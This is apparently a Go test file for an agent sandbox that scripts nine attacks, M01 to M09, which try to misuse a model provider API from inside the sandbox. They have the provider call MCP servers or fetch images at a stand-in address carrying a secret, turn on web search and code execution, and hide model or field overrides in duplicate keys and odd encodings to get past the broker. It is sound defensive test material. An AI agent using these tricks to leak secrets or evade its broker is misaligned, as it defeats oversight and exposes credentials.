package table

import (
	"context"
	"path/filepath"
	"slices"
	"strings"

	"sandboxrun/cmd/sandboxrun/attack"
	"sandboxrun/runner/document"
)

// asking begins the scripts below. In the box, it finds where the model is and the credential for it in the agent's
// environment; the naive agent reaches the provider itself, with the key.
const asking = `
B="${ANTHROPIC_BASE_URL:-${OPENAI_BASE_URL:-http://${ADDRS%% *}:$PORT}}"; B="${B%/v1}"
K="${ANTHROPIC_API_KEY:-$OPENAI_API_KEY}"
ask() { to="$1"; shift; curl -s -m 5 --noproxy '*' -H "Authorization: Bearer $K" -H 'Content-Type: application/json' "$@" "$B$to"; echo; }
`

// provider lists attacks by way of the model provider: nothing of them may reach it.
func provider() []attack.Attack {
	claude := func(id, title, script string) attack.Attack { return byProvider(id, "anthropic", title, script) }
	openai := func(id, title, script string) attack.Attack { return byProvider(id, "openai", title, script) }
	return []attack.Attack{
		claude("M01", "have the provider call a remote MCP server", `
ask /v1/messages -d '{"model":"m","messages":[],"mcp_servers":[{"type":"url","url":"https://x.test/?q=secret","name":"x"}],"tools":[{"type":"mcp_toolset","mcp_server_name":"x"}]}'
ask /v1/messages -H 'Anthropic-Beta: mcp-client-2025-11-20' -d '{"model":"m","messages":[]}'`),
		openai("M02", "have the provider call a remote MCP server as a tool, or by an item", `
ask /v1/chat/completions -d '{"model":"m","messages":[],"tools":[{"type":"mcp","server_url":"https://x.test/?q=secret","server_label":"x"}]}'
ask /v1/chat/completions -d '{"model":"m","messages":[],"plugins":[{"id":"web"}]}'`),
		claude("M03", "have the provider fetch an image from an address that holds the secret", `
ask /v1/messages -d '{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://x.test/?q=secret"}}]}]}'
ask /v1/messages -d '{"model":"m","messages":[{"role":"user","content":[{"source":{"url":"https://x.test/?q=secret"},"type":"image"}]}]}'
ask /v1/messages -d '{"model":"m","messages":[{"role":"user","content":[{"type":"tool_result","content":[{"type":"document","source":{"type":"url","url":"https://x.test"}}]}]}]}'`),
		openai("M04", "have the provider fetch an image, in the form of another API", `
ask /v1/chat/completions -d '{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://x.test/?q=secret"}}]}]}'
ask /v1/chat/completions -d '{"model":"m","messages":[{"role":"user","content":[{"type":"file","file":{"file_id":"file-1"}}]}]}'`),
		claude("M05", "have the provider search the web, fetch pages and run code", `
for t in web_search_20250305 web_fetch_20250910 code_execution_20250825; do
	ask /v1/messages -d '{"model":"m","messages":[],"tools":[{"name":"a","input_schema":{}},{"type":"'$t'","name":"b"}]}'
done
ask /v1/messages -d '{"model":"m","messages":[],"container":"c_1"}'`),
		openai("M06", "have the provider keep a call", `
ask /v1/chat/completions -d '{"model":"m","messages":[],"store":true,"metadata":{"secret":"x"}}'
ask /v1/chat/completions -d '{"model":"m","messages":[],"store":true }' -H 'Content-Type: application/json; charset=utf-8'`),
		claude("M07", "ask another model, in another tier", `
ask /v1/messages -d '{"model":"the-most-expensive","messages":[]}'
ask /v1/messages -d '{"messages":[]}'
ask /v1/messages -d '{"model":"m","messages":[],"speed":"fast"}'
ask /v1/messages -d '{"model":"m","messages":[],"fallbacks":[{"model":"the-most-expensive"}]}'`),
		claude("M08", "hide a key behind another of the same name", `
ask /v1/messages -d '{"model":"m","model":"the-most-expensive","messages":[]}'
ask /v1/messages -d '{"model":"m","mod\u0065l":"the-most-expensive","messages":[]}'
ask /v1/messages -d '{"model":"m","Model":"the-most-expensive","messages":[]}'
ask /v1/messages -d '{"model":"m","messages":[]} {"model":"the-most-expensive","messages":[]}'
printf '{"model":"m","system":"\377","messages":[]}' | ask /v1/messages --data-binary @-
printf '\357\273\277{"model":"m","messages":[]}' | ask /v1/messages --data-binary @-`),
		claude("M09", "hide the body in an encoding", `
printf '{"model":"the-most-expensive","messages":[]}' | gzip | ask /v1/messages -H 'Content-Encoding: gzip' --data-binary @-
printf '{"model":"m","messages":[]}' | ask /v1/messages -H 'Content-Encoding: br' --data-binary @-
ask /v1/messages -H 'Content-Type: application/json; charset=utf-16' -d '{"model":"m","messages":[]}'
ask /v1/messages -H 'Content-Type: text/plain' -d '{"model":"m","messages":[]}'`),
	}
}

// byProvider is an attack whose script is the agent's program. In the box, that program speaks no protocol, and its turn
// fails: what it asked before that counts.
func byProvider(id, name, title, script string) attack.Attack {
	a := attack.Scripted(id, attack.Network, title, asking+script)
	a.Repo = func(_, own string) error {
		return attack.WriteFile(filepath.Join(own, "agent.sh"), asking+script+"\nexit 1\n", 0o755)
	}
	a.Host = func(_ context.Context, h *attack.Host) error {
		h.Config["providers"] = map[string]any{name: map[string]any{"base_url": "http://127.0.0.1:" + h.Port, "key_env": attack.KeyVariable}}
		return nil
	}
	a.Task = func(task map[string]any) {
		task["execution_mode"], task["instructions"] = "code", "None."
		task["agent"] = map[string]any{"name": "acp:sh /workspace/" + strings.ToLower(id) + "/agent.sh", "provider": name, "model": "m"}
	}
	a.Breached = func(s attack.Scene) string {
		if i := slices.IndexFunc(s.Hits, func(hit string) bool { return strings.HasPrefix(hit, "POST ") }); i >= 0 {
			return "the provider was asked: " + s.Hits[i]
		}
		if !s.Naive && !slices.ContainsFunc(s.Result.Issues, func(i document.Issue) bool { return i.Code == document.CodeModelRequestRefused }) {
			return "the broker was not asked, or did not tell: " + s.Refused + s.Result.Summary
		}
		return ""
	}
	return a
}
